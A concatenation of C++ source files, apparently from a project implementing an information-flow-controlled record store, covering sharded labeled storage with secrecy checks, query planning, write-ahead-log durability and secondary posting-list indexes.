    W5_NO_THREAD_SAFETY_ANALYSIS {
  if (!snapshot.at("records").is_array())
    return util::make_error("store.parse", "missing records array");
  // Build aside, then swap under all shard locks (index order, the only
  // place more than one shard lock is ever held).
  std::array<std::map<Key, Record>, kShardCount> records;
  std::array<std::map<std::string, std::vector<Key>>, kShardCount> by_owner;
  for (const auto& item : snapshot.at("records").as_array()) {
    auto record = Record::from_json(item);
    if (!record.ok()) return record.error();
    Key key{record.value().collection, record.value().id};
    const std::size_t shard = shard_index(key);
    if (records[shard].contains(key))
      return util::make_error("store.parse", "duplicate record key");
    by_owner[shard][record.value().owner].push_back(key);
    records[shard].emplace(std::move(key), std::move(record).value());
  }
  std::array<std::unique_lock<std::shared_mutex>, kShardCount> locks;
  for (std::size_t i = 0; i < kShardCount; ++i)
    locks[i] = std::unique_lock(shards_[i].mutex.native());
  for (std::size_t i = 0; i < kShardCount; ++i) {
    shards_[i].records = std::move(records[i]);
    shards_[i].by_owner = std::move(by_owner[i]);
  }
  return util::ok_status();
}

}  // namespace w5::store
