#include "store/labeled_store.h"

#include <algorithm>
#include <mutex>

#include "difc/label_table.h"

namespace w5::store {

namespace {

// Same widening rule as the filesystem: dual privilege reads/writes
// transparently; t+ endorses implicitly (see os/filesystem.cpp).
difc::LabelState widen_for(const difc::LabelState& state,
                           const difc::ObjectLabels& object) {
  const difc::Label dual =
      state.owned().addable().intersect_with(state.owned().removable());
  const difc::Label secrecy =
      state.secrecy().union_with(object.secrecy.intersect_with(dual));
  const difc::Label integrity = state.integrity().union_with(
      object.integrity.intersect_with(state.owned().addable()));
  return difc::LabelState(secrecy, integrity, state.owned());
}

util::Error not_found(const std::string& collection, const std::string& id) {
  return util::make_error("store.not_found", collection + "/" + id);
}

bool key_less(const Record& a, const Record& b) {
  if (a.collection != b.collection) return a.collection < b.collection;
  return a.id < b.id;
}

}  // namespace

std::size_t LabeledStore::shard_index(const Key& key) {
  const std::size_t h1 = std::hash<std::string>{}(key.first);
  const std::size_t h2 = std::hash<std::string>{}(key.second);
  return (h1 * 31 + h2) % kShardCount;
}

util::Result<difc::LabelState> LabeledStore::caller(os::Pid pid) const {
  return kernel_.effective_state(pid);
}

bool LabeledStore::visible(const Record& record,
                           const difc::Label& clearance) {
  return difc::cached_subset(record.labels.secrecy, clearance);
}

std::vector<IndexSpec> LabeledStore::specs_snapshot() const {
  const util::ReadLock lock(specs_mutex_);
  return specs_;
}

std::vector<IndexSpec> LabeledStore::index_specs() const {
  return specs_snapshot();
}

util::Status LabeledStore::put(os::Pid pid, Record record) {
  if (record.collection.empty() || record.id.empty())
    return util::make_error("store.invalid", "collection and id required");
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  // Lock order: spec lock strictly before any shard lock.
  const std::vector<IndexSpec> specs = specs_snapshot();

  const Key key{record.collection, record.id};
  Shard& shard = shard_for(key);
  util::telemetry_count(puts_);
  util::telemetry_count(shard.ops);
  util::WriteLock lock(shard.mutex);
  const auto it = shard.records.find(key);
  if (it == shard.records.end()) {
    // Create: no leak into the record, no forged endorsement.
    if (!state.value().secrecy().subset_of(record.labels.secrecy)) {
      return util::make_error(
          "flow.denied", "put: process secrecy " +
                             state.value().secrecy().to_string() +
                             " would leak into record labeled " +
                             record.labels.secrecy.to_string());
    }
    const difc::Label endorsable = state.value().integrity().union_with(
        state.value().owned().addable());
    if (!record.labels.integrity.subset_of(endorsable)) {
      return util::make_error("flow.denied",
                              "put: cannot forge integrity " +
                                  record.labels.integrity.to_string());
    }
    if (auto charged = kernel_.charge(
            pid, os::Resource::kDisk,
            static_cast<std::int64_t>(record.data.dump().size()));
        !charged.ok()) {
      return charged;
    }
    record.version = 1;
    record.updated_micros = clock_.now();
    const auto inserted = shard.records.emplace(key, std::move(record)).first;
    shard.index.add(key, inserted->second, specs);
    // log() under the shard lock so commit order matches lock order; the
    // durability wait happens after release (never fsync under a lock).
    std::uint64_t seq = 0;
    if (mutation_log_ != nullptr) {
      util::Json op;
      op["op"] = "store.put";
      op["record"] = inserted->second.to_json();
      seq = mutation_log_->log(op);
    }
    lock.unlock();
    if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
    return util::ok_status();
  }

  // Overwrite: the record's existing labels govern; stored labels and
  // owner are immutable through this path (relabel is a provider op), so
  // only the field postings can move.
  Record& existing = it->second;
  if (auto status = difc::check_write(
          widen_for(state.value(), existing.labels), existing.labels);
      !status.ok()) {
    return status;
  }
  const auto new_size = static_cast<std::int64_t>(record.data.dump().size());
  const auto old_size =
      static_cast<std::int64_t>(existing.data.dump().size());
  if (new_size > old_size) {
    if (auto charged =
            kernel_.charge(pid, os::Resource::kDisk, new_size - old_size);
        !charged.ok()) {
      return charged;
    }
  }
  shard.index.remove_fields(key, existing, specs);
  existing.data = std::move(record.data);
  existing.version += 1;
  existing.updated_micros = clock_.now();
  shard.index.add_fields(key, existing, specs);
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "store.put";
    op["record"] = existing.to_json();
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

util::Result<Record> LabeledStore::get(os::Pid pid,
                                       const std::string& collection,
                                       const std::string& id, Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const Key key{collection, id};
  Record record;
  {
    // Copy out under the shard lock; the read linearizes here. The raise
    // and flow check run against the copy so we never hold the shard lock
    // across a label change.
    const Shard& shard = shard_for(key);
    util::telemetry_count(gets_);
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) return not_found(collection, id);
    record = it->second;
  }

  // Outside clearance the record does not exist — indistinguishable from
  // a missing id (no existence leak).
  if (!visible(record, state.value().secrecy_clearance()))
    return not_found(collection, id);

  if (raise == Raise::kYes &&
      !record.labels.secrecy.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, record.labels.secrecy);
        !raised.ok()) {
      return raised.error();
    }
    state = caller(pid);
    if (!state.ok()) return state.error();
  }
  if (auto status = difc::check_read(widen_for(state.value(), record.labels),
                                     record.labels);
      !status.ok()) {
    return status.error();
  }
  return record;
}

util::Status LabeledStore::remove(os::Pid pid, const std::string& collection,
                                  const std::string& id) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const std::vector<IndexSpec> specs = specs_snapshot();
  const Key key{collection, id};
  Shard& shard = shard_for(key);
  util::telemetry_count(removes_);
  util::telemetry_count(shard.ops);
  util::WriteLock lock(shard.mutex);
  const auto it = shard.records.find(key);
  if (it == shard.records.end())
    return util::Status(not_found(collection, id));
  if (!visible(it->second, state.value().secrecy_clearance()))
    return util::Status(not_found(collection, id));
  // Vandalism is a write (§3.1): deletion needs write authority.
  if (auto status = difc::check_write(
          widen_for(state.value(), it->second.labels), it->second.labels);
      !status.ok()) {
    return status;
  }
  shard.index.remove(key, it->second, specs);
  shard.records.erase(it);
  std::uint64_t seq = 0;
  if (mutation_log_ != nullptr) {
    util::Json op;
    op["op"] = "store.remove";
    op["collection"] = collection;
    op["id"] = id;
    seq = mutation_log_->log(op);
  }
  lock.unlock();
  if (mutation_log_ != nullptr) return mutation_log_->wait_durable(seq);
  return util::ok_status();
}

void LabeledStore::scan_shards(
    const std::string& collection, const QueryOptions& options,
    const QueryPlan& plan, const difc::Label& bound,
    const std::string& start_after, std::size_t per_shard_cap,
    const std::function<bool(const Record&)>& sink) const {
  if (per_shard_cap == 0) return;
  // The scan's lower bound: strictly after the cursor when it dominates
  // min_id, else at min_id inclusive.
  const bool strict = !start_after.empty() && start_after >= options.min_id;
  const std::string& low = strict ? start_after : options.min_id;

  const auto in_range = [&](const Key& key) {
    return key.first == collection &&
           (options.max_id.empty() || key.second <= options.max_id);
  };
  // Every non-visibility constraint, applied on whatever path runs — a
  // plan can change cost, never results.
  const auto matches = [&](const Record& r) {
    if (!options.owner.empty() && r.owner != options.owner) return false;
    if (!options.eq_field.empty()) {
      const auto value = index_encode(r.data.at(options.eq_field));
      if (!value || *value != options.eq_value) return false;
    }
    return !options.predicate || options.predicate(r);
  };

  for (const Shard& shard : shards_) {
    util::telemetry_count(shard.ops);
    const util::ReadLock lock(shard.mutex);
    std::size_t emitted = 0;
    bool stop_all = false;
    // Takes a record already known visible; false stops this shard.
    const auto emit = [&](const Record& r) -> bool {
      if (!matches(r)) return true;
      if (!sink(r)) {
        stop_all = true;
        return false;
      }
      return ++emitted < per_shard_cap;
    };
    // Ascending walk of one posting list's [low, max_id] slice.
    const auto walk_postings = [&](const std::vector<Key>& keys) {
      auto it = strict ? std::upper_bound(keys.begin(), keys.end(),
                                          Key{collection, low})
                       : std::lower_bound(keys.begin(), keys.end(),
                                          Key{collection, low});
      for (; it != keys.end() && in_range(*it); ++it) {
        const Record& record = shard.records.at(*it);
        if (!difc::cached_subset(record.labels.secrecy, bound)) continue;
        if (!emit(record)) return;
      }
    };

    // Per-shard refinement: with both posting lists available, walk the
    // shorter one; an absent list proves zero matches in this shard.
    PlanKind kind = plan.kind;
    const std::vector<Key>* field_list = nullptr;
    const std::vector<Key>* owner_list = nullptr;
    if (kind == PlanKind::kFieldIndex) {
      const auto fit = shard.index.by_field.find(
          ShardIndex::FieldKey{collection, plan.field, plan.value});
      field_list = fit == shard.index.by_field.end() ? nullptr : &fit->second;
      if (plan.owner_alternative) {
        const auto oit = shard.index.by_owner.find(options.owner);
        owner_list =
            oit == shard.index.by_owner.end() ? nullptr : &oit->second;
        if (field_list == nullptr || owner_list == nullptr) {
          util::telemetry_count(plans_field_);
          continue;
        }
        if (owner_list->size() < field_list->size())
          kind = PlanKind::kOwnerIndex;
      } else if (field_list == nullptr) {
        util::telemetry_count(plans_field_);
        continue;
      }
    }

    switch (kind) {
      case PlanKind::kFieldIndex:
        util::telemetry_count(plans_field_);
        walk_postings(*field_list);
        break;
      case PlanKind::kOwnerIndex: {
        util::telemetry_count(plans_owner_);
        if (owner_list == nullptr) {
          const auto oit = shard.index.by_owner.find(options.owner);
          owner_list =
              oit == shard.index.by_owner.end() ? nullptr : &oit->second;
        }
        if (owner_list != nullptr) walk_postings(*owner_list);
        break;
      }
      case PlanKind::kLabelScan: {
        util::telemetry_count(plans_scan_);
        // One memoized clearance check per label *set*; a skipped group's
        // records are never touched at all — simultaneously the perf win
        // and the §3.5 story (unreadable records cost nothing observable).
        bool any_skipped = false;
        std::vector<const std::vector<Key>*> groups;
        for (const auto& [label, keys] : shard.index.by_label) {
          util::telemetry_count(label_groups_checked_);
          if (difc::cached_subset(label, bound)) {
            groups.push_back(&keys);
          } else {
            any_skipped = true;
            util::telemetry_count(label_groups_skipped_);
          }
        }
        if (!any_skipped) {
          // Everything visible: the record map is already in key order,
          // so scan it directly (no per-record label work at all).
          auto it = strict
                        ? shard.records.upper_bound(Key{collection, low})
                        : shard.records.lower_bound(Key{collection, low});
          for (; it != shard.records.end() && in_range(it->first); ++it)
            if (!emit(it->second)) break;
          break;
        }
        // Merge the visible groups' slices in ascending key order (the
        // groups partition the records, so no key appears twice).
        struct Range {
          std::vector<Key>::const_iterator it, end;
        };
        std::vector<Range> ranges;
        for (const auto* keys : groups) {
          auto it = strict ? std::upper_bound(keys->begin(), keys->end(),
                                              Key{collection, low})
                           : std::lower_bound(keys->begin(), keys->end(),
                                              Key{collection, low});
          if (it != keys->end() && in_range(*it))
            ranges.push_back(Range{it, keys->end()});
        }
        while (!ranges.empty()) {
          std::size_t min_i = 0;
          for (std::size_t i = 1; i < ranges.size(); ++i)
            if (*ranges[i].it < *ranges[min_i].it) min_i = i;
          if (!emit(shard.records.at(*ranges[min_i].it))) break;
          ++ranges[min_i].it;
          if (ranges[min_i].it == ranges[min_i].end ||
              !in_range(*ranges[min_i].it))
            ranges.erase(ranges.begin() +
                         static_cast<std::ptrdiff_t>(min_i));
        }
        break;
      }
    }
    if (stop_all) return;
  }
}

util::Result<QueryPage> LabeledStore::run_query(os::Pid pid,
                                                const std::string& collection,
                                                const QueryOptions& options,
                                                Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  // Budget denial depends only on (principal, rate) — never on record
  // data — so the denial itself carries no §3.5 signal.
  if (auto admitted = governor_.admit(options.principal); !admitted.ok())
    return admitted.error();

  std::string start_after;
  if (!options.cursor.empty()) {
    const std::string prefix = collection + "/";
    if (options.cursor.size() <= prefix.size() ||
        options.cursor.compare(0, prefix.size(), prefix) != 0) {
      return util::make_error(
          "store.bad_cursor",
          "cursor does not resume collection '" + collection + "'");
    }
    start_after = options.cursor.substr(prefix.size());
    util::telemetry_count(cursor_resumes_);
  }

  const difc::Label bound = raise == Raise::kYes
                                ? state.value().secrecy_clearance()
                                : state.value().secrecy();
  const QueryPlan plan = plan_query(collection, options, specs_snapshot());

  // Per shard a page never needs more than offset+limit visible matches:
  // every path emits ascending by key within a shard, so the globally
  // smallest offset+limit keys are among each shard's first offset+limit.
  const std::size_t cap = options.offset > SIZE_MAX - options.limit
                              ? SIZE_MAX
                              : options.offset + options.limit;

  // Phase 1: collect visible, matching candidates shard by shard (one
  // lock at a time), then merge-sort by key so pagination order is
  // deterministic regardless of sharding.
  util::telemetry_count(scans_);
  std::vector<Record> candidates;
  scan_shards(collection, options, plan, bound, start_after, cap,
              [&](const Record& record) {
                candidates.push_back(record);
                return true;
              });
  std::sort(candidates.begin(), candidates.end(), key_less);

  // Phase 2: pagination counts only rows the caller may see.
  QueryPage page;
  difc::Label result_label;
  for (std::size_t i = options.offset;
       i < candidates.size() && page.records.size() < options.limit; ++i) {
    result_label = result_label.union_with(candidates[i].labels.secrecy);
    page.records.push_back(std::move(candidates[i]));
  }
  if (options.limit != SIZE_MAX && !page.records.empty() &&
      page.records.size() == options.limit) {
    page.next_cursor = collection + "/" + page.records.back().id;
  }

  // The caller is contaminated by the join of everything returned.
  if (raise == Raise::kYes &&
      !result_label.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, result_label); !raised.ok())
      return raised.error();
  }
  // Charge per *visible* result only — charging for skipped records would
  // leak their existence through the quota meter.
  if (auto charged =
          kernel_.charge(pid, os::Resource::kMemory,
                         static_cast<std::int64_t>(page.records.size()));
      !charged.ok()) {
    return charged.error();
  }
  return page;
}

util::Result<std::vector<Record>> LabeledStore::query(
    os::Pid pid, const std::string& collection, const QueryOptions& options,
    Raise raise) {
  auto page = run_query(pid, collection, options, raise);
  if (!page.ok()) return page.error();
  return std::move(page).value().records;
}

util::Result<QueryPage> LabeledStore::query_page(os::Pid pid,
                                                 const std::string& collection,
                                                 const QueryOptions& options,
                                                 Raise raise) {
  return run_query(pid, collection, options, raise);
}

util::Result<std::size_t> LabeledStore::count(os::Pid pid,
                                              const std::string& collection,
                                              const QueryOptions& options,
                                              Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  if (auto admitted = governor_.admit(options.principal); !admitted.ok())
    return admitted.error();
  const difc::Label bound = raise == Raise::kYes
                                ? state.value().secrecy_clearance()
                                : state.value().secrecy();
  const QueryPlan plan = plan_query(collection, options, specs_snapshot());
  util::telemetry_count(scans_);
  std::size_t n = 0;
  difc::Label result_label;
  scan_shards(collection, options, plan, bound, /*start_after=*/"",
              options.limit, [&](const Record& record) {
                result_label =
                    result_label.union_with(record.labels.secrecy);
                ++n;
                return n < options.limit;
              });
  // Counting is observing: the caller pays the same contamination as if
  // the counted records had been returned (query()'s raise contract).
  if (raise == Raise::kYes &&
      !result_label.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, result_label); !raised.ok())
      return raised.error();
  }
  return governor_.quantize(n);
}

util::Result<std::vector<std::string>> LabeledStore::list_ids(
    os::Pid pid, const std::string& collection, Raise raise) {
  auto state = caller(pid);
  if (!state.ok()) return state.error();
  const difc::Label bound = raise == Raise::kYes
                                ? state.value().secrecy_clearance()
                                : state.value().secrecy();
  util::telemetry_count(scans_);
  const QueryOptions options;  // unfiltered full scan
  std::vector<std::string> out;
  difc::Label result_label;
  scan_shards(collection, options, QueryPlan{}, bound, /*start_after=*/"",
              SIZE_MAX, [&](const Record& record) {
                result_label =
                    result_label.union_with(record.labels.secrecy);
                out.push_back(record.id);
                return true;
              });
  std::sort(out.begin(), out.end());
  // Same contamination contract as query()/count(): ids are data too.
  if (raise == Raise::kYes &&
      !result_label.subset_of(state.value().secrecy())) {
    if (auto raised = kernel_.raise_secrecy(pid, result_label); !raised.ok())
      return raised.error();
  }
  return out;
}

util::Status LabeledStore::create_index(const std::string& collection,
                                        const std::string& field) {
  if (collection.empty() || field.empty()) {
    return util::make_error("store.invalid",
                            "index needs collection and field");
  }
  const IndexSpec spec{collection, field};
  {
    util::WriteLock lock(specs_mutex_);
    if (std::find(specs_.begin(), specs_.end(), spec) != specs_.end())
      return util::ok_status();  // idempotent
    specs_.push_back(spec);
    std::sort(specs_.begin(), specs_.end());
  }
  // Spec is published: every put from here on maintains the new index.
  // Backfill shard by shard (one write lock at a time); rebuild drops and
  // re-derives, and posting inserts are idempotent, so racing maintenance
  // converges.
  for (Shard& shard : shards_) {
    util::WriteLock lock(shard.mutex);
    shard.index.rebuild_field(spec, shard.records);
  }
  return util::ok_status();
}

void LabeledStore::set_governor_config(const QueryGovernorConfig& config) {
  governor_.configure(config);
}

LabeledStore::OpCounts LabeledStore::op_counts() const {
  return OpCounts{gets_.load(std::memory_order_relaxed),
                  puts_.load(std::memory_order_relaxed),
                  removes_.load(std::memory_order_relaxed),
                  scans_.load(std::memory_order_relaxed)};
}

std::array<std::uint64_t, LabeledStore::kShardCount>
LabeledStore::shard_op_counts() const {
  std::array<std::uint64_t, kShardCount> out{};
  for (std::size_t i = 0; i < kShardCount; ++i)
    out[i] = shards_[i].ops.load(std::memory_order_relaxed);
  return out;
}

QueryEngineStats LabeledStore::query_stats() const {
  QueryEngineStats out;
  out.plans_field = plans_field_.load(std::memory_order_relaxed);
  out.plans_owner = plans_owner_.load(std::memory_order_relaxed);
  out.plans_scan = plans_scan_.load(std::memory_order_relaxed);
  out.label_groups_checked =
      label_groups_checked_.load(std::memory_order_relaxed);
  out.label_groups_skipped =
      label_groups_skipped_.load(std::memory_order_relaxed);
  out.cursor_resumes = cursor_resumes_.load(std::memory_order_relaxed);
  {
    const util::ReadLock lock(specs_mutex_);
    out.registered_indexes = specs_.size();
  }
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    out.field_postings += shard.index.by_field.size();
    out.label_postings += shard.index.by_label.size();
    out.owner_postings += shard.index.by_owner.size();
  }
  const QueryGovernor::Stats governor = governor_.stats();
  out.queries_admitted = governor.admitted;
  out.queries_denied = governor.denied;
  out.budget_principals = governor.principals;
  out.count_quantum = governor.count_quantum;
  out.budget_queries = governor.budget_queries;
  return out;
}

std::size_t LabeledStore::total_records() const {
  std::size_t n = 0;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    n += shard.records.size();
  }
  return n;
}

std::vector<Record> LabeledStore::export_owned_by(
    const std::string& owner) const {
  std::vector<Record> out;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    const auto it = shard.index.by_owner.find(owner);
    if (it == shard.index.by_owner.end()) continue;
    for (const Key& key : it->second) out.push_back(shard.records.at(key));
  }
  std::sort(out.begin(), out.end(), key_less);
  return out;
}

util::Json LabeledStore::to_json() const {
  // Snapshot order is key order, independent of sharding.
  std::vector<Record> all;
  for (const Shard& shard : shards_) {
    const util::ReadLock lock(shard.mutex);
    for (const auto& [key, record] : shard.records) all.push_back(record);
  }
  std::sort(all.begin(), all.end(), key_less);
  util::Json array = util::Json::array();
  for (const Record& record : all) array.push_back(record.to_json());
  util::Json out;
  out["records"] = std::move(array);
  return out;
}

util::Status LabeledStore::apply_wal(const util::Json& op) {
  const std::string& kind = op.at("op").as_string();
  const std::vector<IndexSpec> specs = specs_snapshot();
  if (kind == "store.put") {
    auto parsed = Record::from_json(op.at("record"));
    if (!parsed.ok()) return parsed.error();
    Record record = std::move(parsed).value();
    const Key key{record.collection, record.id};
    Shard& shard = shard_for(key);
    util::WriteLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) {
      const auto inserted =
          shard.records.emplace(key, std::move(record)).first;
      shard.index.add(key, inserted->second, specs);
    } else {
      // Owner and labels are immutable through put(), but snapshot/WAL
      // overlap can replay a put over a snapshot record from an earlier
      // life of the key (remove + recreate straddling the boundary), and
      // the data fields can always differ — unindex the old state in
      // full and index the new one.
      shard.index.remove(key, it->second, specs);
      it->second = std::move(record);
      shard.index.add(key, it->second, specs);
    }
    return util::ok_status();
  }
  if (kind == "store.remove") {
    const Key key{op.at("collection").as_string(), op.at("id").as_string()};
    Shard& shard = shard_for(key);
    util::WriteLock lock(shard.mutex);
    const auto it = shard.records.find(key);
    if (it == shard.records.end()) return util::ok_status();  // idempotent
    shard.index.remove(key, it->second, specs);
    shard.records.erase(it);
    return util::ok_status();
  }
  return util::make_error("wal.replay", "unknown store op '" + kind + "'");
}

// Takes all 16 shard locks through a runtime-indexed array — a dynamic
// capability set TSA cannot model, hence the opt-out.
util::Status LabeledStore::load_json(const util::Json& snapshot)
    W5_NO_THREAD_SAFETY_ANALYSIS {
  if (!snapshot.at("records").is_array())
    return util::make_error("store.parse", "missing records array");
  const std::vector<IndexSpec> specs = specs_snapshot();
  // Build aside, then swap under all shard locks (index order, the only
  // place more than one shard lock is ever held).
  std::array<std::map<Key, Record>, kShardCount> records;
  std::array<ShardIndex, kShardCount> indexes;
  for (const auto& item : snapshot.at("records").as_array()) {
    auto record = Record::from_json(item);
    if (!record.ok()) return record.error();
    Key key{record.value().collection, record.value().id};
    const std::size_t shard = shard_index(key);
    if (records[shard].contains(key))
      return util::make_error("store.parse", "duplicate record key");
    indexes[shard].add(key, record.value(), specs);
    records[shard].emplace(std::move(key), std::move(record).value());
  }
  std::array<std::unique_lock<std::shared_mutex>, kShardCount> locks;
  for (std::size_t i = 0; i < kShardCount; ++i)
    // w5flow-allow(native): the all-shards swap takes every sibling
    // shard lock in index order — the documented equal-rank protocol.
    locks[i] = std::unique_lock(shards_[i].mutex.native());
  for (std::size_t i = 0; i < kShardCount; ++i) {
    shards_[i].records = std::move(records[i]);
    shards_[i].index = std::move(indexes[i]);
  }
  return util::ok_status();
}

}  // namespace w5::store
