// The durability plane: WAL + snapshots + recovery, behind the
// util::MutationLog hook (DESIGN.md §13).
//
// One DurableStore serves a whole provider. Components publish mutations
// through log()/wait_durable(); a background compactor periodically
// rotates the WAL, captures a full labeled snapshot, and garbage-collects
// the segments and snapshots the new one covers. Recovery is the inverse:
// load the newest valid snapshot, replay the WAL tail from its boundary,
// truncate whatever torn suffix the crash left.
//
// Threading: log() touches only the WAL's leaf mutex, so it is safe under
// any component lock. The compactor runs on its own thread — never the
// flusher's — because capturing a snapshot takes the components' locks
// while workers inside those locks may be waiting on the flusher; the
// flusher must always make progress for the system to drain.
#pragma once

#include <atomic>
#include <condition_variable>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>

#include "store/snapshot.h"
#include "store/wal.h"
#include "util/json.h"
#include "util/mutation_log.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::store {

struct DurabilityConfig {
  bool enabled = false;  // off by default: the in-memory provider unchanged
  std::string dir;       // WAL segments + snapshots live here
  DurabilityMode mode = DurabilityMode::kFsync;
  util::Micros flush_interval_micros = 2'000;  // kInterval fsync cadence
  // Auto-checkpoint after this many WAL entries since the last boundary;
  // 0 disables the background compactor (checkpoint() still works).
  std::uint64_t snapshot_every_entries = 8192;
  util::Micros compactor_poll_micros = 20'000;  // how often the gauge is read
  net::FileFaultPlan fault;  // test hook: crash/short-write injection
};

class DurableStore final : public util::MutationLog {
 public:
  explicit DurableStore(DurabilityConfig config,
                        util::MetricsRegistry* metrics = nullptr);
  ~DurableStore() override;

  DurableStore(const DurableStore&) = delete;
  DurableStore& operator=(const DurableStore&) = delete;

  struct RecoveryStats {
    bool snapshot_loaded = false;
    std::uint64_t snapshot_boundary = 1;
    std::uint64_t replayed_entries = 0;
    std::uint64_t last_seq = 0;         // highest committed seq found
    std::uint64_t truncated_bytes = 0;  // torn tail discarded
    bool tail_torn = false;
    util::Micros recovery_micros = 0;
  };

  // Loads the newest valid snapshot (restore_snapshot sees its payload;
  // not called when none exists), replays the WAL tail (apply sees each
  // committed op once, in order), repairs the torn tail, then opens the
  // WAL for appending and starts the compactor. After success the store
  // accepts log() calls. Call exactly once, before any mutation.
  util::Result<RecoveryStats> recover(
      const std::function<util::Status(const std::string& payload)>&
          restore_snapshot,
      const std::function<util::Status(const util::Json& op)>& apply);

  // checkpoint() captures full state through this; must be set before the
  // compactor can run (Provider::snapshot().dump() in practice).
  void set_checkpoint_source(std::function<std::string()> fn);

  // util::MutationLog. log() returns 0 before recover(), after close(),
  // or when the WAL refused the op; wait_durable then reports the error.
  std::uint64_t log(const util::Json& op) override;
  util::Status wait_durable(std::uint64_t seq) override;

  // Rotate, snapshot, GC — now, synchronously. Serialized internally.
  // Errors (without snapshotting) if the WAL has failed: a boundary the
  // rotation could not prove must not license segment GC.
  util::Status checkpoint();

  // Drains pending appends to disk (test/shutdown hook); errors if the
  // WAL has failed.
  util::Status flush();
  void close();  // stop compactor, drain + close the WAL

  std::uint64_t last_seq() const;
  WriteAheadLog* wal() { return wal_.get(); }  // test access
  const DurabilityConfig& config() const { return config_; }

 private:
  void compactor_main();

  const DurabilityConfig config_;
  util::MetricsRegistry* metrics_;
  std::unique_ptr<WriteAheadLog> wal_;
  std::function<std::string()> checkpoint_source_;

  // Serializes checkpoint() bodies.
  util::Mutex checkpoint_mutex_{util::lockrank::kDurableCheckpoint,
                                "DurableStore::checkpoint_mutex_"};
  std::atomic<std::uint64_t> last_checkpoint_boundary_{1};

  util::Mutex compactor_mutex_{util::lockrank::kDurableCompactor,
                               "DurableStore::compactor_mutex_"};
  std::condition_variable compactor_cv_;
  bool closing_ W5_GUARDED_BY(compactor_mutex_) = false;
  std::thread compactor_;

  util::Counter* checkpoints_ = nullptr;
  util::Histogram* checkpoint_micros_ = nullptr;
};

}  // namespace w5::store
