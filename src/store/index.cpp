#include "store/index.h"

#include <algorithm>

namespace w5::store {

std::optional<std::string> index_encode(const util::Json& value) {
  if (!value.is_string()) return std::nullopt;
  return value.as_string();
}

void posting_insert(std::vector<RecordKey>& keys, const RecordKey& key) {
  const auto it = std::lower_bound(keys.begin(), keys.end(), key);
  if (it != keys.end() && *it == key) return;  // idempotent
  keys.insert(it, key);
}

void posting_erase(std::vector<RecordKey>& keys, const RecordKey& key) {
  const auto it = std::lower_bound(keys.begin(), keys.end(), key);
  if (it != keys.end() && *it == key) keys.erase(it);
}

namespace {

template <typename MapT, typename KeyT>
void map_posting_erase(MapT& map, const KeyT& map_key, const RecordKey& key) {
  const auto it = map.find(map_key);
  if (it == map.end()) return;
  posting_erase(it->second, key);
  if (it->second.empty()) map.erase(it);
}

}  // namespace

void ShardIndex::add(const RecordKey& key, const Record& record,
                     const std::vector<IndexSpec>& specs) {
  posting_insert(by_owner[record.owner], key);
  posting_insert(by_label[record.labels.secrecy], key);
  add_fields(key, record, specs);
}

void ShardIndex::remove(const RecordKey& key, const Record& record,
                        const std::vector<IndexSpec>& specs) {
  map_posting_erase(by_owner, record.owner, key);
  map_posting_erase(by_label, record.labels.secrecy, key);
  remove_fields(key, record, specs);
}

void ShardIndex::add_fields(const RecordKey& key, const Record& record,
                            const std::vector<IndexSpec>& specs) {
  for (const IndexSpec& spec : specs) {
    if (spec.collection != record.collection) continue;
    if (const auto value = index_encode(record.data.at(spec.field)))
      posting_insert(
          by_field[FieldKey{spec.collection, spec.field, *value}], key);
  }
}

void ShardIndex::remove_fields(const RecordKey& key, const Record& record,
                               const std::vector<IndexSpec>& specs) {
  for (const IndexSpec& spec : specs) {
    if (spec.collection != record.collection) continue;
    if (const auto value = index_encode(record.data.at(spec.field)))
      map_posting_erase(by_field,
                        FieldKey{spec.collection, spec.field, *value}, key);
  }
}

void ShardIndex::rebuild_field(const IndexSpec& spec,
                               const std::map<RecordKey, Record>& records) {
  // Drop every list for this (collection, field) then re-derive: the
  // backfill must converge even if a racing put already inserted entries
  // (posting_insert is idempotent).
  const FieldKey lo{spec.collection, spec.field, ""};
  auto it = by_field.lower_bound(lo);
  while (it != by_field.end() && std::get<0>(it->first) == spec.collection &&
         std::get<1>(it->first) == spec.field) {
    it = by_field.erase(it);
  }
  const std::vector<IndexSpec> one{spec};
  const auto begin = records.lower_bound(RecordKey{spec.collection, ""});
  for (auto rec = begin;
       rec != records.end() && rec->first.first == spec.collection; ++rec) {
    add_fields(rec->first, rec->second, one);
  }
}

}  // namespace w5::store
