// Per-shard secondary indexes for the labeled store (DESIGN.md §17).
//
// Three posting-list families, every list kept in key order so shard
// scans emit candidates smallest-key-first and pagination never needs a
// post-hoc fixup:
//
//   by_owner   owner            → keys (all collections)
//   by_label   secrecy label    → keys — records grouped by their exact
//              label *set*, so one memoized clearance check
//              (difc::cached_subset) admits or skips an entire list;
//              invisible groups are never touched, which is both the
//              perf win and the §3.5 story (unreadable records cost the
//              caller nothing observable).
//   by_field   (collection, field, value) → keys for registered
//              IndexSpecs — equality lookups on string-valued data
//              fields (matching field_equals() semantics; non-string
//              values are deliberately not indexed).
//
// The index is derived state: put/remove/apply_wal/load_json maintain it
// in lockstep with the record map under the owning shard's lock, and
// recovery rebuilds it from the snapshot + WAL tail — it is never
// serialized.
#pragma once

#include <map>
#include <optional>
#include <string>
#include <tuple>
#include <vector>

#include "difc/label.h"
#include "store/record.h"

namespace w5::store {

